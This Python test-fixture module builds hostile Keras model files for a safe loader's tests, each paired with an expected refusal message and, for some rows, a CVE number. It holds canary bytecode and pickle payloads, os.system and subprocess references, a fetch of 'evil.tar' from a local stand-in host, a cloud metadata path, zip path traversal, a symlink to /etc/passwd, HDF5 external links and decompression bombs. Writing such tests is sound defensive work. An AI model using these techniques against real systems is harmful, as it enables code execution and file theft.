"""Models that mean harm, and what is said of each. Nothing here needs an engine.

Each function writes a file and knows where a secret, and a place for canaries, lie. Where a
vulnerability of Keras has a number, the row names it.
"""

# ruff: noqa: ARG001, ARG005 - every row is called alike

import base64
import io
import json
import marshal
import pickle
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import h5py
import numpy as np
from keras_archives import (
    SHAPE,
    archive,
    function,
    images,
    layer,
    model,
    patch_directory,
    plain,
    pooled,
    thing,
    top,
    weights,
    with_layer,
)

NONE_OF_KERAS = "only Keras' own layers for images are allowed"


@dataclass(frozen=True)
class Hostile:
    """One row.

    Attributes:
        write: (path of the model, folder outside) -> None.
        says: what the error must contain.
        cve: number of the vulnerability of Keras that it stands for.
    """

    write: Callable[[Path, Path], None]
    says: str
    cve: str = ""


def of_config(make, says=NONE_OF_KERAS, cve=""):
    return Hostile(lambda path, outside: archive(path, make(outside)), says, cve)


def of_layer(class_name, says=NONE_OF_KERAS, cve="", of="keras.layers", **config):
    """One more layer; texts in its config may name `{outside}`."""

    def fill(value, outside):
        if isinstance(value, str):
            return value.replace("{outside}", str(outside))
        if isinstance(value, dict):
            return {key: fill(inner, outside) for key, inner in value.items()}
        return [fill(inner, outside) for inner in value] if isinstance(value, list) else value

    def make(outside):
        return with_layer(layer(class_name, "x", "images", of=of, **fill(config, outside)))

    return of_config(make, says, cve)


def of_weights(make, says, cve=""):
    return Hostile(lambda path, outside: archive(path, content=make(outside)), says, cve)


# Code


def _touching(outside):
    """Bytecode of a function that leaves a canary."""
    source = f"lambda x: (open({str(outside / 'ran')!r}, 'w').close(), x)[1]"
    code = compile(source, "canary", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_of_bytecode(outside):
    value = {"class_name": "__lambda__", "config": {"value": _touching(outside)}}
    return with_layer(layer("Lambda", "x", "images", function=value, arguments={}))


def lambda_as_older_keras_had_it(outside):
    value = [_touching(outside), None, None]
    settings = {"function_type": "lambda", "module": "__main__", "output_shape": None}
    return with_layer(layer("Lambda", "x", "images", function=value, arguments={}, **settings))


def bytecode_as_an_activation(outside):
    value = {"class_name": "__lambda__", "config": {"value": _touching(outside)}}
    return model([images(), pooled("images"), top(activation=value)])


def lambda_of_a_function(module, name, **arguments):
    return of_layer("Lambda", function=function(module, name), arguments=arguments)


def legacy_without_modules(outside):
    config = {"name": "x", "function": [_touching(outside), None, None], "arguments": {}}
    inner = {"class_name": "Lambda", "config": config, "name": "x", "inbound_nodes": []}
    return model([images(), inner, pooled("images"), top()])


class _Touches:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def pickled_module(outside):
    pickled = base64.b64encode(pickle.dumps(_Touches(str(outside / "ran")))).decode()
    return with_layer(layer("TorchModuleWrapper", "x", "images", module={"buffer_config": pickled}))


def in_a_nested_model(outside):
    inner = model([images("i"), layer("Lambda", "x", "i", function=function("os", "system"))])
    inner["config"] |= {"input_layers": [["i", 0, 0]], "output_layers": [["x", 0, 0]]}
    nested = inner | {
        "name": "inner",
        "inbound_nodes": layer("Rescaling", "inner", "images")["inbound_nodes"],
    }
    return model([images(), nested, pooled("inner"), top()])


def in_an_argument_of_a_call(outside):
    call = {"training": thing("keras.layers", "TFSMLayer", {"filepath": str(outside)})}
    return with_layer(layer("Dropout", "x", "images", rate=0.5, kwargs=call))


def in_a_loss_of_an_inner_model(outside):
    config = plain()
    config["config"]["layers"][1]["compile_config"] = {
        "optimizer": "sgd",
        "loss": {"class_name": "__lambda__", "config": {"value": _touching(outside)}},
    }
    return config


def in_the_loss_of_the_model(outside):
    loss = {"class_name": "__lambda__", "config": {"value": _touching(outside)}}
    return plain() | {"compile_config": {"optimizer": "sgd", "loss": loss, "metrics": None}}


# Sizes


def wide(units):
    return lambda _: model([images(), pooled("images"), top(units=units)])


def enlarged(outside):
    layers = [images(), layer("UpSampling2D", "x", "images", size=[2000, 2000])]
    return model([*layers, pooled("x", (32000, 40000, 3)), top()])


def normalised_pixel_by_pixel(outside):
    shape = (60_000, 60_000, 3)
    settings = {"axis": [1, 2, 3], "mean": 0.0, "variance": 1.0}
    extra = layer("Normalization", "x", "images", shape, **settings)
    return model([images(shape=shape), extra, pooled("x", shape), top()])


def deep(levels):
    return "[" * levels + "]" * levels


def nested_models(levels):
    config = plain()
    for _ in range(levels):
        inner = config | {"name": "classifier", "inbound_nodes": []}
        config = thing("keras", "Sequential", {"name": "s", "layers": [inner]}, registered_name="")
    return config


def many_layers(count):
    one = json.dumps(layer("Identity", "x", "images"))
    text = json.dumps(plain())
    at = text.index('{"module": "keras.layers", "class_name": "GlobalAverage')
    return text[:at] + f"{one}, " * count + text[at:]


def in_a_circle(outside):
    one, other = layer("Identity", "a", "b"), layer("Identity", "b", "a")
    return model([images(), one, other, pooled("a"), top()])


def after_itself(outside):
    return with_layer(layer("Identity", "x", "x"))


def shared_with_itself(outside):
    config = plain() | {"shared_object_id": 1}
    inner = plain() | {"shared_object_id": 1, "name": "inner", "inbound_nodes": []}
    config["config"]["layers"].append(inner)
    return config


# Weights


def an_array(write):
    """Weights whose first array is made by `write(group, outside)`."""
    return lambda outside: weights(
        lambda file: write(file.create_group("layers/dense/vars"), outside),
        **{"layers/dense/vars/0": None, "layers/dense/vars/1": None},
    )


def external_storage(group, outside):
    group.create_dataset("0", (3, 3), "f4", external=[(str(outside / "secret.txt"), 0, 36)])


def external_link(group, outside):
    group["0"] = h5py.ExternalLink(str(outside / "secret.h5"), "/x")


def soft_link(group, outside):
    group["0"] = h5py.SoftLink("/layers/dense/vars/1")


def virtual(group, outside):
    layout = h5py.VirtualLayout((3, 3), "f4")
    layout[:] = h5py.VirtualSource(str(outside / "secret.h5"), "x", shape=(3, 3))
    group.create_virtual_dataset("0", layout)


def never_written(group, outside):
    group.create_dataset("0", (2**20, 2**20), "f4")


def packed_bomb(group, outside):
    zeros = np.zeros((2**11, 2**12), "f4")
    group.create_dataset("0", data=zeros, chunks=(2**10, 2**12), compression="gzip")


def texts(group, outside):
    group.create_dataset("0", data=np.array(["a", "b"], dtype=h5py.string_dtype()))


def references(group, outside):
    group.create_dataset("0", data=np.array([group.ref], dtype=h5py.ref_dtype))


def in_circles(group, outside):
    group["0"] = np.zeros((3, 3), "f4")
    group["again"] = group.file["layers"]


# Archives


def member(name, content=b"x", *, mode=0o644):
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    return info, content


def with_members(*members, says="alone; it holds", cve=""):
    return Hostile(lambda path, outside: archive(path, more=members), says, cve)


def packed(path, outside):
    archive(path, content=bytes(300_000_000), packed=zipfile.ZIP_DEFLATED)


def packed_config(path, outside):
    archive(path, " " * 300_000_000, packed=zipfile.ZIP_DEFLATED)


def twice(name, content):
    def write(path, outside):
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("metadata.json", "{}")
            file.writestr("config.json", json.dumps(plain()))
            file.writestr("model.weights.h5", weights())
            file._didModify = True
            info = zipfile.ZipInfo(name)
            file.NameToInfo.pop(name)
            file.writestr(info, content(outside))

    return write


def encrypted(path, outside):
    archive(path)
    patch_directory(path, "config.json", 8, 1, size=2)


def lying_about_sizes(path, outside):
    archive(path)
    patch_directory(path, "model.weights.h5", 24, 0xFFFFFFF0)


def other_names_inside(path, outside):
    archive(path)
    content = path.read_bytes().replace(b"config.json", b"confog.json", 1)
    path.write_bytes(content)


def cut_off(path, outside):
    archive(path)
    path.write_bytes(path.read_bytes()[:2000])


def a_second_archive_behind(path, outside):
    archive(path)
    behind = io.BytesIO()
    with zipfile.ZipFile(behind, "w") as file:
        file.writestr("config.json", json.dumps(lambda_of_bytecode(outside)))
    path.write_bytes(path.read_bytes() + behind.getvalue())


def old_h5(path, outside):
    with h5py.File(path, "w") as file:
        config = {"class_name": "Sequential", "config": {"layers": []}}
        file.attrs["model_config"] = json.dumps(config | {"code": _touching(outside)})


def a_pickle(path, outside):
    path.write_bytes(pickle.dumps(_Touches(str(outside / "ran"))))


def of_torch(path, outside):
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(_Touches(str(outside / "ran"))))


def saved_model(path, outside):
    path.mkdir()
    (path / "saved_model.pb").write_bytes(b"\x08\x01")
    (path / "config.json").write_text(json.dumps(lambda_of_bytecode(outside)))


def onnx(path, outside):
    path.write_bytes(b"\x08\x07\x12\x07pytorch" + bytes(100))


MODELS: dict[str, Hostile] = {
    # Code
    "lambda": of_config(lambda_of_bytecode, cve="2024-3660"),
    "older lambda": of_config(lambda_as_older_keras_had_it, cve="2026-12481"),
    "bytecode as activation": of_config(bytecode_as_an_activation, cve="2024-3660"),
    "module os": of_layer("system", of="os", cve="2025-1550"),
    "function of os": of_layer(
        "Dense", units=3, activation=function("os", "system"), cve="2025-1550"
    ),
    "class of subprocess": of_layer("Popen", of="subprocess", args=["id"], cve="2025-1550"),
    "module of the file": of_layer("Mine", of="evil_module", cve="2025-1550"),
    "builtin exec": of_layer("Activation", activation=function("builtins", "exec")),
    "lambda loads a model": lambda_of_a_function(
        "keras.models", "load_model", safe_mode=False, filepath="{outside}/evil.keras"
    ),
    "lambda ends safe mode": Hostile(
        lambda_of_a_function("keras.config", "enable_unsafe_deserialization").write,
        NONE_OF_KERAS,
        "2025-9906",
    ),
    "lambda fetches": Hostile(
        lambda_of_a_function(
            "keras.utils",
            "get_file",
            origin="http://127.0.0.1:9/evil.tar",
            cache_dir="{outside}",
            extract=True,
        ).write,
        NONE_OF_KERAS,
        "2025-8747, 2024-55459, 2025-12060",
    ),
    "lambda of the private module": lambda_of_a_function(
        "keras.src.utils.file_utils", "get_file", origin="file://{outside}/secret.txt"
    ),
    "lambda draws a file": lambda_of_a_function(
        "keras.utils", "plot_model", to_file="{outside}/ran"
    ),
    "lambda reads a data set": lambda_of_a_function(
        "keras.datasets.imdb", "load_data", path="{outside}/secret.txt"
    ),
    "no modules": of_config(legacy_without_modules, cve="2025-9905"),
    "torch": of_config(pickled_module, cve="2025-49655"),
    "jax": of_layer("JaxLayer", call_fn=function("builtins", "eval")),
    "flax": of_layer("FlaxLayer", call_fn=thing("os", "system", {})),
    "saved model": of_layer("TFSMLayer", filepath="{outside}", cve="2026-1462"),
    "saved model as function": of_layer(
        "Activation", activation=function("keras.layers", "TFSMLayer"), cve="2026-1462"
    ),
    "network as function": of_layer(
        "Activation", activation=function("keras.applications", "MobileNet")
    ),
    "in a nested model": of_config(in_a_nested_model),
    "in a call": of_config(in_an_argument_of_a_call),
    "in an inner loss": of_config(in_a_loss_of_an_inner_model, "inside it was compiled"),
    "type of a value": of_layer(
        "Rescaling",
        says="values of U99999999",
        scale={"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "U99999999"}},
    ),
    "type of enormous values": of_layer(
        "Rescaling",
        says=r"values of float32,(12000,20000)f8",
        scale={
            "class_name": "__numpy__",
            "config": {"value": 1, "dtype": "float32,(12000,20000)f8"},
        },
    ),
    "typespec": of_layer(
        "Rescaling",
        scale={
            "class_name": "__typespec__",
            "spec_name": "system",
            "module": "os",
            "registered_name": None,
            "config": [],
        },
    ),
    "module that is none": of_layer("Dense", says="names no class", of=thing("os", "x", {})),
    "registered name": of_layer("Custom", of=None, registered_name="package>Custom"),
    "quantized": of_layer(
        "Dense",
        units=3,
        dtype=thing("keras.dtype_policies", "GPTQDTypePolicy", {"mode": "gptq/4/-1"}),
    ),
    "map over a function": of_layer(
        "Map", of="keras.src.ops.core", function=function("os", "system")
    ),
    # Files and addresses
    "vocabulary": of_layer("StringLookup", vocabulary="{outside}/secret.txt", cve="2025-12058"),
    "vocabulary of numbers": of_layer("IntegerLookup", vocabulary="{outside}/secret.txt"),
    "vocabulary in the net": of_layer(
        "StringLookup", vocabulary="http://127.0.0.1:9/latest/meta-data", cve="2025-12058"
    ),
    "index": of_layer("IndexLookup", vocabulary="{outside}/secret.txt", max_tokens=9),
    "text": of_layer("TextVectorization", vocabulary="{outside}/secret.txt"),
    "hashing": of_layer("Hashing", num_bins=2**60),
    "feature space": of_layer("FeatureSpace", of="keras.utils", features={}),
    # Sizes
    "histograms": of_layer("ContrastLimitedAdaptiveHistogramEqualization"),
    "wide": of_config(wide(2**24), "it needs"),
    "wider": of_config(wide(2**40), "units is 1.09951e+12"),
    "negative": of_config(wide(-5), "cannot be opened"),
    "enlarged": of_config(enlarged, "one of its layers returns"),
    "normalised": of_config(normalised_pixel_by_pixel, "one of its layers returns"),
    "infinite": of_config(wide(float("inf")), "units is inf"),
    "not a number": of_config(wide(float("nan")), "units is nan"),
    "deep": of_config(lambda _: deep(10_000), "cannot be opened"),
    "nested": of_config(lambda _: nested_models(40), "larger or deeper"),
    "many layers": of_config(lambda _: many_layers(90_000), "larger than that of any model"),
    "too many objects": of_config(lambda _: many_layers(30_000), "larger or deeper"),
    "circle": of_config(in_a_circle, "cannot be opened"),
    "after itself": of_config(after_itself, "cannot be opened"),
    "no model": of_config(lambda _: images(), "not a functional or sequential model"),
    "a function": of_config(
        lambda _: function("keras.models", "load_model"), "not a functional or sequential model"
    ),
    "no object": of_config(lambda _: [], "cannot be opened"),
    "not UTF-8": of_config(lambda _: b"\xff\xfe\x00{", "cannot be opened"),
    # Weights
    "external storage": of_weights(
        an_array(external_storage), "not stored as a plain array", "2026-1669"
    ),
    "external link": of_weights(an_array(external_link), "a link to somewhere else", "2026-1669"),
    "soft link": of_weights(an_array(soft_link), "a link to somewhere else"),
    "virtual": of_weights(an_array(virtual), "not stored as a plain array", "2026-1669"),
    "shape bomb": of_weights(an_array(never_written), "was never written", "2026-0897"),
    "packed numbers": of_weights(an_array(packed_bomb), "not stored as a plain array"),
    "texts": of_weights(an_array(texts), "not an array of numbers"),
    "references": of_weights(an_array(references), "not an array of numbers"),
    "links in circles": of_weights(an_array(in_circles), "stands in it twice"),
    "no weights": of_weights(
        lambda _: weights(**{"layers/dense/vars/0": None, "layers/dense/vars/1": None}),
        "cannot be opened",
    ),
    "other shape": of_weights(
        lambda _: weights(**{"layers/dense/vars/0": np.zeros((4, 4), "f4")}), "cannot be opened"
    ),
    "weights cut off": of_weights(lambda _: weights()[:900], "cannot be opened"),
    # Archives
    "traversal": with_members(member("../../outside/ran"), cve="2026-12479"),
    "traversal in assets": with_members(member("assets/../../../outside/ran"), cve="2026-12479"),
    "absolute": with_members(member("/tmp/ran")),
    "symlink": with_members(member("assets/x", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)),
    "assets": with_members(member("assets/layers/string_lookup/vocabulary.txt")),
    "a program": with_members(member("__init__.py", b"raise SystemExit")),
    "packed bomb": Hostile(packed, "is compressed"),
    "packed config": Hostile(packed_config, "is compressed"),
    "config twice": Hostile(
        twice("config.json", lambda outside: json.dumps(lambda_of_bytecode(outside))), "it holds"
    ),
    "weights twice": Hostile(twice("model.weights.h5", lambda _: b"x"), "it holds"),
    "encrypted": Hostile(encrypted, "compressed or encrypted"),
    "sizes that lie": Hostile(lying_about_sizes, "is damaged"),
    "names that lie": Hostile(other_names_inside, "cannot be opened"),
    "two archives": Hostile(a_second_archive_behind, "it holds config.json"),
    "cut off": Hostile(cut_off, "whose end is missing"),
    "h5": Hostile(old_h5, "a Keras model in HDF5", "2025-9905"),
    "pickle": Hostile(a_pickle, "not an archive"),
    "torch file": Hostile(of_torch, "a PyTorch model"),
    "saved model folder": Hostile(saved_model, "a TensorFlow SavedModel"),
    "onnx": Hostile(onnx, "not an archive"),
}
"""What is refused, and in which words."""

HARMLESS: dict[str, Callable[[Path, Path], None]] = {
    "plain": lambda path, outside: archive(path),
    # What a model was trained by is passed over: its loss is never made.
    "hostile loss": lambda path, outside: archive(path, in_the_loss_of_the_model(outside)),
    "large seed": lambda path, outside: archive(
        path, with_layer(layer("Dropout", "x", "images", rate=0.5, seed=2**31))
    ),
    "hostile names": lambda path, outside: archive(
        path, with_layer(layer("Identity", "..\\..\\outside>", "images"))
    ),
    "shared with itself": lambda path, outside: archive(path, shared_with_itself(outside)),
}
"""What is opened, and does no harm."""

NOT_FINITE = {
    "NaN": np.float32(np.nan),
    "infinite weights": np.float32(np.inf),
    "overflow": np.float32(3.4e38),
}
"""Weights of models that open, and whose answers are no probabilities."""


def write_not_finite(path: Path, value: np.float32) -> None:
    content = weights(**{"layers/dense/vars/0": np.full((SHAPE[-1], 3), value)})
    archive(path, content=content)
